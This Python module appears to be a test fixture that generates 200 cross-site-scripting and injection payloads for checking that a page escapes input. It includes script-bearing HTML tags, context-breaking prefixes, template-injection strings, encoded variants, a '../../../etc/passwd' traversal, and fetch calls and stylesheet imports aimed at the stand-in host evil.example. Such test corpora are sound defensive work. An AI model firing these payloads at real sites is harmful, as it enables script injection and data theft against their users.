"""Two hundred texts that become markup, script or another address if a page does not treat them as text."""

MARK = "understudy-was-here"

_SCRIPTS = ["alert(1)", "window.hit=1", "top.hit=1", "document.title='hit'", "fetch('//evil.example')"]
_ELEMENTS = [
    "<script>{js}</script>", "<img src=x onerror={js}>", "<svg onload={js}>", "<svg><script>{js}</script></svg>",
    "<body onload={js}>", "<iframe srcdoc=\"<script>{js}</script>\"></iframe>", "<details open ontoggle={js}>x</details>",
    "<input autofocus onfocus={js}>", "<video><source onerror={js}></video>", "<a href=\"javascript:{js}\">x</a>",
    "<math href=\"javascript:{js}\">x</math>", "<form action=\"javascript:{js}\"><button>x</button></form>",
    "<object data=\"javascript:{js}\"></object>", "<embed src=\"javascript:{js}\">", "<marquee onstart={js}>x</marquee>",
    "<select autofocus onfocus={js}></select>", "<audio src=x onerror={js}>", "<base href=\"javascript:{js}//\">",
    "<link rel=stylesheet href=\"//evil.example/{js}\">", "<meta http-equiv=refresh content=\"0;url=javascript:{js}\">",
    "<template><script>{js}</script></template>", "<noscript><p title=\"</noscript><img src=x onerror={js}>\">",
    "<style>@import '//evil.example/{js}';</style>", "<x style=\"animation-name:x\" onanimationstart={js}>",
    "<button popovertarget=x onclick={js}>x</button>", "<dialog open onclose={js}>x</dialog>",
]
_BREAKS = [
    "\"><script>{js}</script>", "'><script>{js}</script>", "</title><script>{js}</script>", "</style><script>{js}</script>",
    "</textarea><script>{js}</script>", "--><script>{js}</script>", "]]><script>{js}</script>", "</script><script>{js}</script>",
]
_TEXTS = [
    "javascript:alert(1)", "data:text/html,<script>alert(1)</script>", "vbscript:msgbox(1)", "{{7*7}}", "${7*7}", "#{7*7}", "<%= 7*7 %>",
    "{{constructor.constructor('alert(1)')()}}", "&lt;script&gt;alert(1)&lt;/script&gt;", "&#60;img src=x onerror=alert(1)&#62;",
    "%3Cscript%3Ealert(1)%3C/script%3E", "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e", "'; alert(1); //", "\"; alert(1); //", "`${alert(1)}`",
    "__proto__", "constructor", "toString", "hasOwnProperty", "<!--", "<![CDATA[<script>alert(1)</script>]]>", "<?xml version=\"1.0\"?>",
    "../../../etc/passwd", "x\" style=\"position:fixed;inset:0", "' onmouseover='alert(1)", "\u202egpj.exe", "\u0000<b>x</b>".replace("\u0000", ""),
    "a" * 3000, "<b>" * 300, "\U0001f4a9<i>x</i>",
]

PAYLOADS = [element.replace("{js}", script) for script in _SCRIPTS for element in _ELEMENTS]
PAYLOADS += [text.replace("{js}", script) for script in _SCRIPTS for text in _BREAKS]
PAYLOADS += _TEXTS
assert len(PAYLOADS) == 200 == len(set(PAYLOADS)), (len(PAYLOADS), len(set(PAYLOADS)))
